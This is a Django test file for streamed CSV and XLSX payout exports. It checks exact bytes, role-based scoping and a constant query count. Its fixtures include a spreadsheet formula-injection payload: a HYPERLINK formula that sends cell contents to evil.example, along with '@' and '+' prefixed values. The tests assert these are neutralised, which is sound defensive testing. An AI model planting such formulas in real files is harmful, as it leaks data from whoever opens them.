"""The HR export streamed (issue 17): the page, the API and the command send the CSV piece by
piece and the XLSX from a temporary file, with the bytes of the contract (docs/contracts.md
"Payout export columns"; the expected files in tests/incentives/expected/ are written by hand),
scoped as before, in a fixed number of queries whatever the size of the run."""

import io
from decimal import Decimal as D
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import connection
from django.http import FileResponse, StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from rest_framework.test import APIClient

from incentives.models import LineType, PayoutLine, PayoutStatement
from incentives.payouts import export
from incentives.payouts.services import add_adjustment, close_period
from tests.factories import SalesmanFactory, UserFactory
from tests.incentives.payout_factories import JUNE, andi_june

pytestmark = pytest.mark.django_db

EXPECTED = Path(__file__).parent / "expected"
make_xlsx_file = export.xlsx_file
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def run(world):
    """The run of tests/incentives/test_export.py, plus two rewards and Andi's payroll number,
    so every column of both files holds something."""
    andi_june(world)
    SalesmanFactory(code="A3", name=EVIL, team=world.team_a, user=UserFactory(username="evil"))
    run = close_period(month=JUNE)
    evil = run.statements.get(salesman__code="A3").salesman
    add_adjustment(run=run, salesman=evil, amount=-125_000, reason="@SUM(1+1)", by=world.hr)
    add_adjustment(
        run=run, salesman=world.dewi, amount=300_000, reason="+Promo\tbonus", by=world.hr
    )
    run.lines.filter(salesman=world.andi, rule_code="rev-full").update(reward="Gadget")
    run.lines.filter(salesman=world.andi, rule_code="visits").update(reward="Trip ke Bali")
    type(world.andi).objects.filter(pk=world.andi.pk).update(employee_id="EMP-001")
    return run


@pytest.fixture
def small_chunks(monkeypatch):
    """Two rows a chunk and a cursor fetch, so even the small run streams in several pieces and
    the summary's two cursors are walked across many fetches."""
    monkeypatch.setattr(export, "CHUNK_ROWS", 2)


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def api_for(user) -> APIClient:
    api = APIClient()
    api.force_authenticate(user)
    return api


def test_the_expected_files_are_the_contract():
    """The hand-written files themselves: BOM, CRLF, the columns, neutralised formulas."""
    summary = (EXPECTED / "payouts-2026-06.csv").read_bytes()
    assert summary.startswith(b"\xef\xbb\xbfperiod,salesman,name,team,channel,total_score,")
    assert summary.count(b"\r\n") == 5 and summary.count(b"\n") == 5
    assert b"2026-06,A1,Andi,Team A,GT,112.22,3400000,Gadget; Trip ke Bali,EMP-001\r\n" in summary
    lines = (EXPECTED / "payouts-2026-06-lines.csv").read_bytes()
    assert lines.count(b"\r\n") == 1 + 14
    assert b"2026-06,B1,adjustment,'+Promo\tbonus,adjustment,,,300000,\r\n" in lines


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("/incentives/runs/2026-06/export.csv", "payouts-2026-06.csv"),
        ("/incentives/runs/2026-06/export.csv?lines=1", "payouts-2026-06-lines.csv"),
        ("/api/v1/payout-runs/2026-06/export/", "payouts-2026-06.csv"),
        ("/api/v1/payout-runs/2026-06/export/?lines=true", "payouts-2026-06-lines.csv"),
    ],
)
def test_csv_is_streamed_with_the_contract_bytes(run, world, small_chunks, url, expected):
    http = api_for(world.hr) if url.startswith("/api/") else client_for(world.hr)
    response = http.get(url)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{expected}"'
    chunks = list(response.streaming_content)
    assert len(chunks) >= 3  # header + two rows, then more pieces
    assert b"".join(chunks) == (EXPECTED / expected).read_bytes()


def test_command_writes_the_contract_bytes(run, small_chunks, tmp_path):
    for args, expected in (
        ([], "payouts-2026-06.csv"),
        (["--lines"], "payouts-2026-06-lines.csv"),
    ):
        target = tmp_path / expected
        out = io.StringIO()
        call_command("export_payouts", "2026-06", *args, "-o", str(target), stdout=out)
        assert target.read_bytes() == (EXPECTED / expected).read_bytes()
        assert f"({target.stat().st_size} bytes, run draft)" in out.getvalue()


def read_xlsx(data: bytes) -> dict[str, list[tuple]]:
    book = load_workbook(io.BytesIO(data))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


@pytest.mark.parametrize(
    "url",
    [
        "/incentives/runs/2026-06/export.xlsx",
        "/api/v1/payout-runs/2026-06/export/?file_format=xlsx",
    ],
)
def test_xlsx_is_streamed_from_a_temporary_file(run, world, small_chunks, monkeypatch, url):
    files = []

    def xlsx_file(**kwargs):
        files.append(make_xlsx_file(**kwargs))
        return files[-1]

    monkeypatch.setattr(export, "xlsx_file", xlsx_file)
    http = api_for(world.hr) if url.startswith("/api/") else client_for(world.hr)
    response = http.get(url)
    assert response.status_code == 200
    assert isinstance(response, FileResponse) and response.streaming
    assert response["Content-Type"] == export.CONTENT_TYPES["xlsx"]
    assert response["Content-Disposition"] == 'attachment; filename="payouts-2026-06.xlsx"'
    (source,) = files
    assert not source.closed and source.tell() == 0
    data = response.getvalue()  # read to the end, the response is closed (as a server does)
    assert int(response["Content-Length"]) == len(data)
    assert source.closed  # an anonymous temporary file: closed is deleted
    sheets = read_xlsx(data)
    assert list(sheets) == ["summary", "lines"]
    assert sheets["summary"] == [
        tuple(export.SUMMARY_COLUMNS),
        (
            "2026-06",
            "A1",
            "Andi",
            "Team A",
            "GT",
            112.22,
            3400000,
            "Gadget; Trip ke Bali",
            "EMP-001",
        ),
        ("2026-06", "A2", "Budi", "Team A", "GT", 0, 0, None, None),
        ("2026-06", "A3", "'" + EVIL, "Team A", "GT", 0, -125000, None, None),
        ("2026-06", "B1", "Dewi", "Team B", "MT", None, 300000, None, None),
    ]
    assert sheets["lines"][0] == tuple(export.LINE_COLUMNS)
    assert sheets["lines"][1] == (
        "2026-06",
        "A1",
        "rev-full",
        "Revenue 100%",
        "tiers",
        110,
        "from 100",
        2000000,
        "Gadget",
    )
    assert len(sheets["lines"]) == 1 + 14
    assert sum(row[7] for row in sheets["lines"][1:]) == 3_400_000 - 125_000 + 300_000


def test_streamed_exports_stay_scoped(run, world, small_chunks):
    body = client_for(world.manager_b).get("/incentives/runs/2026-06/export.csv").getvalue()
    assert body.decode("utf-8-sig").splitlines()[1:] == ["2026-06,B1,Dewi,Team B,MT,,300000,,"]
    body = api_for(world.manager_a).get("/api/v1/payout-runs/2026-06/export/?lines=1").getvalue()
    assert {row.split(",")[1] for row in body.decode("utf-8-sig").splitlines()[1:]} == {
        "A1",
        "A2",
        "A3",
    }
    sheets = read_xlsx(
        client_for(world.manager_b).get("/incentives/runs/2026-06/export.xlsx").getvalue()
    )
    assert [row[1] for row in sheets["summary"][1:]] == ["B1"]
    assert {row[1] for row in sheets["lines"][1:]} == {"B1"}
    for who in (world.andi.user, world.supervisor_a):
        assert client_for(who).get("/incentives/runs/2026-06/export.csv").status_code == 404
        assert api_for(who).get("/api/v1/payout-runs/2026-06/export/").status_code == 404


def grow(run, world, people: int) -> None:
    """`people` more salesmen in team B, each with a statement and twelve lines in the run."""
    salesmen = [
        SalesmanFactory(code=f"X{n:03d}", name=f"Extra {n}", team=world.team_b)
        for n in range(people)
    ]
    PayoutStatement.objects.bulk_create(
        PayoutStatement(run=run, salesman=s, team_name="Team B", channel="MT", total_score=D(90))
        for s in salesmen
    )
    PayoutLine.objects.bulk_create(
        PayoutLine(
            run=run,
            salesman=s,
            position=p,
            rule_code=f"r{p}",
            label=f"Rule {p}",
            type=LineType.TIERS,
            value=D(p),
            amount=D(1000 * p),
            reward="Hadiah" if p == 3 else "",
        )
        for s in salesmen
        for p in range(12)
    )


def export_queries(world) -> dict[str, int]:
    counts = {}
    for label, http, url in (
        ("page csv", client_for(world.hr), "/incentives/runs/2026-06/export.csv"),
        ("page lines", client_for(world.hr), "/incentives/runs/2026-06/export.csv?lines=1"),
        ("page xlsx", client_for(world.hr), "/incentives/runs/2026-06/export.xlsx"),
        ("api csv", api_for(world.manager_b), "/api/v1/payout-runs/2026-06/export/"),
        ("api xlsx", api_for(world.hr), "/api/v1/payout-runs/2026-06/export/?file_format=xlsx"),
    ):
        with CaptureQueriesContext(connection) as queries:
            response = http.get(url)
            assert response.status_code == 200
            response.getvalue()  # consumed to the end, then closed by the test client
        counts[label] = len(queries)
    return counts


def test_query_count_does_not_grow_with_the_run(run, world, small_chunks):
    small = export_queries(world)
    grow(run, world, 25)  # 4 → 29 people, 14 → 314 lines, many cursor fetches
    larger = export_queries(world)
    assert larger == small
    rows = client_for(world.hr).get("/incentives/runs/2026-06/export.csv").getvalue()
    rows = rows.decode("utf-8-sig").splitlines()
    assert len(rows) == 1 + 29
    assert rows[-1] == "2026-06,X024,Extra 24,Team B,MT,90.00,66000,Hadiah,"
    lines = client_for(world.hr).get("/incentives/runs/2026-06/export.csv?lines=1").getvalue()
    assert len(lines.decode("utf-8-sig").splitlines()) == 1 + 14 + 25 * 12


def test_command_writes_to_standard_output(run, small_chunks, capfdbinary):
    err = io.StringIO()
    call_command("export_payouts", "2026-06", "--lines", "-o", "-", stderr=err)
    assert capfdbinary.readouterr().out == (EXPECTED / "payouts-2026-06-lines.csv").read_bytes()
    assert "Wrote - (" in err.getvalue()
